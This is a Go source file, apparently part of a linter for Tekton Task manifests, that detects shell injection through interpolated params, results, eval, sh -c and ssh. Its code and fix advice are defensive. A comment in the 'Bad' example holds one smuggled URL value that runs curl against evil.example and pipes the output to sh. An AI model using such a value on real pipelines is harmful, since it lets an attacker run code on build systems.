package script

import (
	"fmt"
	"path"
	"regexp"
	"strings"

	"gopkg.in/yaml.v3"
	"mvdan.cc/sh/v3/syntax"
	"taskgate.dev/taskgate/pkg/catalog"
	"taskgate.dev/taskgate/pkg/check"
)

// ParamInjection finds values whoever runs the Task controls, pasted into
// the text of a script.
var ParamInjection = &check.Check{
	ID:       "script/param-injection",
	Doc:      "`$(params.*)` / step results interpolated into a script, `sh -c`, or the code argument of `python -c`, `node -e`, `perl -e`, `ruby -e`: the caller's value becomes code",
	Severity: check.Error,
	Help:     "pass the value through the step's env (`env: [{name: URL, value: $(params.url)}]`) and use \"$URL\" in the script",
	Bad: `apiVersion: tekton.dev/v1
kind: Task
metadata:
  name: git-clone-lite
spec:
  params:
    - name: url
      description: Repository to clone
  steps:
    - name: clone
      image: quay.io/konflux-ci/git-clone@sha256:09ac9c14392b5c2b8057f66cc4abfb8ce5d7214706318959d00908923a754434
      script: |
        #!/bin/sh
        # Tekton pastes the url into this text before the shell runs: a url of
        #   x"; curl -s https://evil.example/p | sh; "
        # turns the quotes inside out and runs the attacker's code.
        git clone "$(params.url)" /workspace/source
`,
	Fixed: `apiVersion: tekton.dev/v1
kind: Task
metadata:
  name: git-clone-lite
spec:
  params:
    - name: url
      description: Repository to clone
  steps:
    - name: clone
      image: quay.io/konflux-ci/git-clone@sha256:09ac9c14392b5c2b8057f66cc4abfb8ce5d7214706318959d00908923a754434
      env:
        - name: URL
          value: $(params.url)
      script: |
        #!/bin/sh
        # the shell reads the url from the environment as data: no quoting trick
        # escapes "$URL", and -- keeps a url such as --upload-pack=... from being an option
        git clone -- "$URL" /workspace/source
`,
	Requires: []*check.Input{Parsed},
	Run: func(pass *check.Pass) []check.Finding {
		if pass.Submission.Manifest == nil {
			return nil
		}
		return grouped(Of(pass), enumParams(pass.Submission))
	},
}

// hit is one place a value is injected; key names the value (and how).
type hit struct {
	key string
	f   check.Finding
}

// grouped keeps one finding per value per step, at its first place,
// naming the others: a param pasted ten times is one thing to fix.
func grouped(scripts []*Script, enums map[string]bool) []check.Finding {
	var out []check.Finding
	first := map[string]int{}
	more := map[int][]string{}
	for _, sc := range scripts {
		for _, h := range injections(sc, enums) {
			k := sc.Where + "\x00" + h.key
			if i, ok := first[k]; ok {
				more[i] = append(more[i], fmt.Sprintf("%d:%d", h.f.Line, h.f.Column))
				continue
			}
			first[k] = len(out)
			out = append(out, h.f)
		}
	}
	for i, at := range more {
		out[i].Message += fmt.Sprintf(" (also at %s in this step)", strings.Join(at, ", "))
	}
	return out
}

var (
	paramRef      = regexp.MustCompile(`^(?:inputs\.)?params(?:\.([^.\[\]]+)|\[["']([^"']+)["']\])`)
	stepResultRef = regexp.MustCompile(`^steps\.([^.]+)\.results\.([^.\[]+)`)
	resultRef     = regexp.MustCompile(`^results\.([^.\[]+)`)
)

// taint says whether a variable reference (without `$(` `)`) carries a
// value the caller of the Task controls, and names it. Params are the
// caller's; results are written from the Task's inputs. Paths
// (`$(results.x.path)`, `$(workspaces.x.path)`), workspace `.bound`,
// `.claim`, `.volume` and `$(context.*)` are set by Tekton (paths, or
// Kubernetes names limited to [a-z0-9.-]): they cannot carry shell code.
func taint(ref string) (kind, name string, tainted bool) {
	if strings.HasSuffix(ref, ".path") {
		return "", "", false
	}
	if m := paramRef.FindStringSubmatch(ref); m != nil {
		return "param", m[1] + m[2], true
	}
	if m := stepResultRef.FindStringSubmatch(ref); m != nil {
		return "result", m[2], true
	}
	if m := resultRef.FindStringSubmatch(ref); m != nil {
		return "result", m[1], true
	}
	return "", "", false
}

// tainted says whether a reference carries the caller's value.
func tainted(ref string, enums map[string]bool) (kind, name string, ok bool) {
	kind, name, ok = taint(ref[2 : len(ref)-1])
	return kind, name, ok && !(kind == "param" && enums[name])
}

func injections(sc *Script, enums map[string]bool) []hit {
	var out []hit
	for _, r := range Vars(sc.Text) {
		ref := sc.Text[r[0]:r[1]]
		kind, name, ok := tainted(ref, enums)
		if !ok {
			continue
		}
		whose := "whoever sets the param"
		if kind == "result" {
			whose = "whatever the result was made of (it is written from the Task's inputs)"
		}
		f := sc.At(r[0], "%s is pasted into %s before it runs: %s can inject code", ref, sc.describe(), whose)
		f.Help = envHelp(sc, ref, name)
		out = append(out, hit{"pasted " + kind + " " + name, f})
	}
	return append(out, reparsed(sc, enums)...)
}

// reparsed finds the caller's values that a script hands, through env
// variables, to a second shell that parses them again as code: the remote
// shell of `ssh host cmd...`, `eval`, `sh -c "..."`. Quoting in the first
// shell does not help: the second one reads the expanded text.
func reparsed(sc *Script, enums map[string]bool) []hit {
	if sc.Shell == "" {
		return nil
	}
	env := taintedEnv(sc, enums)
	if len(env) == 0 {
		return nil
	}
	file, err := sc.parse()
	if err != nil {
		return nil // script/syntax reports it
	}
	var out []hit
	syntax.Walk(file, func(n syntax.Node) bool {
		call, ok := n.(*syntax.CallExpr)
		if !ok {
			return true
		}
		how, words := reparsedWords(call)
		for _, w := range words {
			syntax.Walk(w, func(n syntax.Node) bool {
				if _, ok := n.(*syntax.CmdSubst); ok {
					return false // a command's output, e.g. $(printf %q "$X"): not the value itself
				}
				pe, ok := n.(*syntax.ParamExp)
				if !ok || pe.Param == nil || env[pe.Param.Value] == "" || quotedForShell(pe) {
					return true
				}
				v, ref := pe.Param.Value, env[pe.Param.Value]
				f := sc.At(int(pe.Pos().Offset()), "$%s (from %s) is parsed again as code by %s: whoever sets the value can inject commands there", v, ref, how)
				f.Help = fmt.Sprintf("quote the value for the second shell: write ${%s@Q} (bash) or $(printf '%%q' \"$%s\") there, so that it reads the value as one word; or hand the value over as data (ssh: send it on stdin or with SendEnv)", v, v)
				out = append(out, hit{"reparsed " + v + " by " + how, f})
				return true
			})
		}
		return true
	})
	return out
}

// quotedForShell says whether an expansion quotes its value for reuse
// as shell input: ${X@Q}.
func quotedForShell(pe *syntax.ParamExp) bool {
	return pe.Exp != nil && pe.Exp.Op == syntax.OtherParamOps && pe.Exp.Word != nil && pe.Exp.Word.Lit() == "Q"
}

// reparsedWords returns the words of a command that another shell parses:
// the remote command of ssh, the arguments of eval, the string of sh -c.
func reparsedWords(call *syntax.CallExpr) (how string, words []*syntax.Word) {
	if len(call.Args) < 2 {
		return "", nil
	}
	name := path.Base(call.Args[0].Lit())
	args := call.Args[1:]
	switch {
	case name == "eval":
		return "eval", args
	case name == "ssh":
		for i := 0; i < len(args); i++ {
			a := args[i].Lit()
			switch {
			case len(a) == 2 && a[0] == '-' && strings.ContainsRune(sshArgFlags, rune(a[1])):
				i++ // the flag's argument
			case strings.HasPrefix(a, "-"):
			default: // the destination; the rest is the remote command
				return "the remote shell of ssh (ssh joins its arguments into one command line)", args[i+1:]
			}
		}
	case shells[name] != "":
		for i, a := range args {
			lit := a.Lit()
			if strings.HasPrefix(lit, "-") && !strings.HasPrefix(lit, "--") && strings.ContainsRune(lit, 'c') && i+1 < len(args) {
				return name + " -c", args[i+1 : i+2]
			}
		}
	}
	return "", nil
}

// sshArgFlags are the ssh options that take an argument.
const sshArgFlags = "BbcDEeFIiJLlmOoPpQRSWw"

// taintedEnv maps the env variables of the script's step (and of the
// stepTemplate) whose value carries the caller's value to that reference.
func taintedEnv(sc *Script, enums map[string]bool) map[string]string {
	out := map[string]string{}
	for _, holder := range []*yaml.Node{mapValue(mapValue(sc.File.Root, "spec"), "stepTemplate"), sc.Container} {
		env := mapValue(holder, "env")
		if env == nil {
			continue
		}
		for _, e := range env.Content {
			name, value := mapValue(e, "name"), mapValue(e, "value")
			if name == nil {
				continue
			}
			delete(out, name.Value) // the step's own entry overrides the template's
			if value == nil {
				continue
			}
			for _, r := range Vars(value.Value) {
				ref := value.Value[r[0]:r[1]]
				if _, _, ok := tainted(ref, enums); ok {
					out[name.Value] = ref
					break
				}
			}
		}
	}
	return out
}

// envHelp shows the exact env entry and use that replace the reference.
func envHelp(sc *Script, ref, name string) string {
	use := func(v string) string {
		if sc.Shell == "" {
			if strings.Contains(sc.Interpreter, "python") {
				return fmt.Sprintf("os.environ[%q]", v)
			}
			return "the environment variable " + v
		}
		return `"${` + v + `}"` + " (in double quotes)"
	}
	if v := existingEnv(sc, ref); v != "" {
		return fmt.Sprintf("the step already has this value in its env as %s: write %s where the script has %s", v, use(v), ref)
	}
	v := envName(name)
	return fmt.Sprintf("pass the value through the environment, where the shell reads it as data: add to %s\n  env:\n    - name: %s\n      value: %s\nand write %s where the script has %s", sc.Where, v, ref, use(v), ref)
}

// existingEnv finds an env entry of the step (or the stepTemplate) whose
// value is exactly the reference.
func existingEnv(sc *Script, ref string) string {
	for _, holder := range []*yaml.Node{sc.Container, mapValue(mapValue(sc.File.Root, "spec"), "stepTemplate")} {
		env := mapValue(holder, "env")
		if env == nil {
			continue
		}
		for _, e := range env.Content {
			name, value := mapValue(e, "name"), mapValue(e, "value")
			if name != nil && value != nil && strings.TrimSpace(value.Value) == ref {
				return name.Value
			}
		}
	}
	return ""
}

var notEnvChar = regexp.MustCompile(`[^A-Za-z0-9_]+`)

// envName turns a param or result name into an environment variable name.
func envName(name string) string {
	v := strings.ToUpper(notEnvChar.ReplaceAllString(name, "_"))
	if v == "" || (v[0] >= '0' && v[0] <= '9') {
		v = "P_" + v
	}
	return v
}

// enumParams lists the params restricted to an enum: Tekton rejects any
// other value, so the values are the Task author's, not the caller's.
func enumParams(s *catalog.Submission) map[string]bool {
	out := map[string]bool{}
	params := mapValue(mapValue(s.Manifest.Root, "spec"), "params")
	if params == nil {
		return out
	}
	for _, p := range params.Content {
		name, enum := mapValue(p, "name"), mapValue(p, "enum")
		if name != nil && enum != nil && len(enum.Content) > 0 {
			out[name.Value] = true
		}
	}
	return out
}
